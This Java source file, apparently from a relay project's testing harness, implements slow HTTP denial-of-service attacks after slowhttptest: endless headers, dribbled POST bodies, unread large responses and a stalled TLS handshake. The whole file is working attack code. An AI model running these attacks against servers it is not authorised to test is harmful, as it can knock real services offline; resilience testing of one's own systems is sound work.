package io.mysocket.relay.attack;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.function.BooleanSupplier;

/** Attacks by taking one's time, as slowhttptest has them. */
final class SlowAttacks {
  private static final Duration DROP = Duration.ofMillis(500);

  private SlowAttacks() {}

  private static byte[] ascii(String text) {
    return text.getBytes(StandardCharsets.US_ASCII);
  }

  /** slowhttptest -H: a head that goes on and on. */
  static Attack heads() {
    return (place, source, on) ->
        drip(place, source, on, "GET / HTTP/1.1\r\nHost: " + place.host() + "\r\n", "X-a: b\r\n");
  }

  /** slowhttptest -B: a body that goes on and on. */
  static Attack bodies() {
    return (place, source, on) ->
        drip(
            place,
            source,
            on,
            "POST / HTTP/1.1\r\nHost: " + place.host() + "\r\nContent-Length: 100000\r\n\r\n",
            "b");
  }

  private static void drip(
      Place place, String source, BooleanSupplier on, String first, String drop) throws Exception {
    try (Line line = Line.secure(place, source, "http/1.1").listening()) {
      line.send(ascii(first));
      while (on.getAsBoolean() && !line.isOver()) {
        line.send(ascii(drop));
        Pause.most(DROP, () -> !on.getAsBoolean() || line.isOver());
      }
    }
  }

  /** slowhttptest -X: a large answer that is not read. */
  static Attack reads(String path) {
    return (place, source, on) -> {
      try (Line line = Line.secure(place, source, "http/1.1", 2_048)) {
        line.send(ascii("GET " + path + " HTTP/1.1\r\nHost: " + place.host() + "\r\n\r\n"));
        Pause.until(() -> !on.getAsBoolean());
      }
    };
  }

  /** A TLS connection that does not begin. */
  static Attack hellos() {
    return (place, source, on) -> {
      try (Line line = Line.plain(place, place.https(), source).listening()) {
        line.send(new byte[] {22, 3, 1, 2, 0, 1, 0, 1, (byte) 0xfc, 3, 3});
        Pause.until(() -> !on.getAsBoolean() || line.isOver());
      }
    };
  }
}
